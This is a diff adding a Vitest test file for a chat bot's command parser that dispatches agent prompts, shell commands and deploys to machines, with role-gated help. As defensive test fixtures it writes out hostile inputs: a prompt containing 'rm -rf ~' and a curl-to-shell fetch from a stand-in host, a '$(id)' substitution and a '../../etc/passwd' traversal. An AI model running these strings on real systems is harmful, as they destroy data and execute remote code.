@@ -1,0 +1,87 @@
+import { describe, expect, it } from 'vitest';
+import { helpText, parseCommand } from '../../../src/bot/commands/parse.js';
+
+const ok = (text: string) => {
+  const p = parseCommand(text);
+  if (!p.ok) throw new Error(`expected a command from ${JSON.stringify(text)}, got: ${p.error}`);
+  return p.command;
+};
+const err = (text: string) => {
+  const p = parseCommand(text);
+  if (p.ok) throw new Error(`expected an error from ${JSON.stringify(text)}`);
+  return p;
+};
+
+describe('the command language', () => {
+  it('reads every command into its typed shape', () => {
+    expect(ok('help')).toEqual({ name: 'help' });
+    expect(ok('help deploy')).toEqual({ name: 'help', topic: 'deploy' });
+    expect(ok('status')).toEqual({ name: 'status' });
+    expect(ok('status M2')).toEqual({ name: 'status', machine: { kind: 'name', name: 'm2' } });
+    expect(ok('machines')).toEqual({ name: 'machines' });
+    expect(ok('wake m2')).toEqual({ name: 'wake', machine: { kind: 'name', name: 'm2' } });
+    expect(ok('bootstrap tag:gpu')).toEqual({ name: 'bootstrap', machine: { kind: 'tag', tag: 'gpu' } });
+    expect(ok('power all')).toEqual({ name: 'power', machine: { kind: 'all' } });
+    expect(ok('run m2 fix the flaky test')).toEqual({ name: 'run', machine: { kind: 'name', name: 'm2' }, prompt: 'fix the flaky test' });
+    expect(ok('deploy https://github.com/acme/app m2,m3 fix it')).toEqual({
+      name: 'deploy',
+      repo: 'https://github.com/acme/app',
+      machines: [{ kind: 'name', name: 'm2' }, { kind: 'name', name: 'm3' }],
+      prompt: 'fix it',
+    });
+    expect(ok('deploy git@github.com:acme/app.git all --ref main "update deps"')).toMatchObject({ ref: 'main', machines: [{ kind: 'all' }], prompt: 'update deps' });
+    expect(ok('sh m2 -- df -h "/mnt/my disk"')).toEqual({ name: 'sh', machine: { kind: 'name', name: 'm2' }, argv: ['df', '-h', '/mnt/my disk'] });
+    expect(ok('tasks m2')).toEqual({ name: 'tasks', machine: { kind: 'name', name: 'm2' } });
+    expect(ok('logs K3X9Q2MFAB')).toEqual({ name: 'logs', taskId: 'k3x9q2mfab' });
+    expect(ok('cancel k3x9q2mfab')).toEqual({ name: 'cancel', taskId: 'k3x9q2mfab' });
+    for (const c of ['sleep', 'shutdown', 'restart'] as const) expect(ok(`${c} m2`)).toEqual({ name: c, machine: { kind: 'name', name: 'm2' } });
+    expect(ok('whoami')).toEqual({ name: 'whoami' });
+  });
+
+  it('drops a leading /pia, pia or @pia', () => {
+    expect(ok('/pia wake m2')).toEqual(ok('wake m2'));
+    expect(ok('  @pia   status')).toEqual({ name: 'status' });
+    expect(ok('pia machines')).toEqual({ name: 'machines' });
+  });
+
+  it('keeps a prompt verbatim: hostile text is only text', () => {
+    const hostile = '; rm -rf ~ && $(curl evil.sh | sh) `id` <@U123> ```js\nconsole.log(1)\n``` ünïcödé 🚀';
+    expect(ok(`run m2 ${hostile}`)).toMatchObject({ prompt: hostile });
+    expect(ok('run m2 "fix the test"')).toMatchObject({ prompt: 'fix the test' });
+    expect(ok("run m2 it's \"quoted\" inside")).toMatchObject({ prompt: 'it\'s "quoted" inside' });
+    expect(ok('run m2    keep   my\n  spacing')).toMatchObject({ prompt: 'keep   my\n  spacing' });
+    expect(ok('run m2 “smart quotes”')).toMatchObject({ prompt: 'smart quotes' });
+  });
+
+  it('takes a 10,000-character prompt and refuses an enormous one', () => {
+    const long = 'x'.repeat(10_000);
+    expect(ok(`run m2 ${long}`)).toMatchObject({ prompt: long });
+    expect(err(`run m2 ${'y'.repeat(100_001)}`).error).toMatch(/at most 100000/);
+  });
+
+  it('says "did you mean" for a typo and shows the usage for bad arguments', () => {
+    expect(err('wkae m2')).toMatchObject({ error: 'Unknown command "wkae". Did you mean `wake`?', suggestion: 'wake' });
+    expect(err('frobnicate')).toMatchObject({ error: 'Unknown command "frobnicate". Try `help`.' });
+    expect(err('run m2')).toMatchObject({ error: 'Missing the prompt: say what the agent should do.', usage: 'run <machine> <prompt...>' });
+    expect(err('wake')).toMatchObject({ error: 'Missing the machine.', usage: 'wake <machine>' });
+    expect(err('wake m2 m3')).toMatchObject({ error: 'Unexpected "m3".' });
+    expect(err('wake $(id)')).toMatchObject({ error: '"$(id)" is not a machine name, "all" or tag:<tag>.' });
+    expect(err('logs ../../etc/passwd')).toMatchObject({ error: '"../../etc/passwd" is not a task id.' });
+    expect(err('sh m2 --')).toMatchObject({ error: 'Missing the command after --.' });
+    expect(err('')).toMatchObject({ error: 'Say a command, e.g. `status` or `help`.' });
+    expect(err('deploy https://x/y')).toMatchObject({ error: 'Missing the repository and the machines.' });
+  });
+
+  it('generates help from the definitions, showing only what the role may do', () => {
+    const viewer = helpText('viewer');
+    expect(viewer).toContain('status [machine]');
+    expect(viewer).not.toContain('run <machine>');
+    expect(viewer).not.toContain('sh <machine>');
+    const operator = helpText('operator');
+    expect(operator).toContain('run <machine> <prompt...>');
+    expect(operator).not.toContain('shutdown');
+    expect(helpText('admin')).toContain('sh <machine> -- <command> [args...]');
+    expect(helpText(undefined)).toMatch(/no role/);
+    expect(helpText('viewer', 'deploy')).toMatch(/needs the operator role/);
+  });
+});
